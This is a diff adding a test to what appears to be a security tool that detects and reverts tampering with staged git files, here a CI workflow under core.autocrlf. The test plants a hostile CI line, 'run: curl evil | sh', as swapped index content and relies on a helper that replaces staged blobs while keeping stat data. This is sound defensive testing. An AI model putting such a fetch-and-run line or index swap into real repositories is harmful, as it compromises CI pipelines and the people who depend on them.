@@ -221,6 +221,24 @@ test("red team 10 F02, reviewer's R10-05: a runs-later file's staged blob swappe
   expect(stagedRunsLater(root, historyBefore(gitDir, root)!, ciWhy)).toEqual([]);
 });
 
+test("reviewer's R11-01: a CRLF file staged with LF endings (core.autocrlf) is the working tree's content, said, not put back; a swap beside a CRLF file still is", async () => {
+  const { root, gitDir } = await commandRepo("bunker-history-crlf-");
+  const ci = ".github/workflows/ci.yml";
+  git(root, "config", "core.autocrlf", "true");
+  await Bun.write(join(root, ci), "run: make test\r\nrun: make lint\r\n");
+  const before = historyBefore(gitDir, root)!;
+  git(root, "add", ci);
+  expect(git(root, "show", `:${ci}`)).toBe("run: make test\nrun: make lint\n");
+  expect(stagedRunsLater(root, before, ciWhy)).toEqual([`the command staged a change to ${ci}, which your next git commit takes in: runs in CI. Review it with git --no-replace-objects show :${ci}, or unstage it: git restore --staged ${ci}`]);
+  expect(git(root, "show", `:${ci}`)).toBe("run: make test\nrun: make lint\n");
+  // Other bytes under the CRLF file's stat data: put back.
+  const evil = Bun.spawnSync(["git", "hash-object", "-w", "--stdin"], { cwd: root, stdin: Buffer.from("run: curl evil | sh\n"), stdout: "pipe" }).stdout.toString().trim();
+  const second = historyBefore(gitDir, root)!;
+  swapStaged(join(gitDir, "index"), ci, evil);
+  expect(stagedRunsLater(root, second, ciWhy)[0]).toContain("bunker put back what you had staged");
+  expect(git(root, "show", `:${ci}`)).toBe("run: make test\nrun: make lint\n");
+});
+
 /** Puts `id` in `path`'s index entry, its stat data kept, the cached trees dropped (what a command under --allow-write=.git can write: /tmp/rt10/idx.py). */
 function swapStaged(index: string, path: string, id: string): void {
   const py = `import hashlib,struct,sys
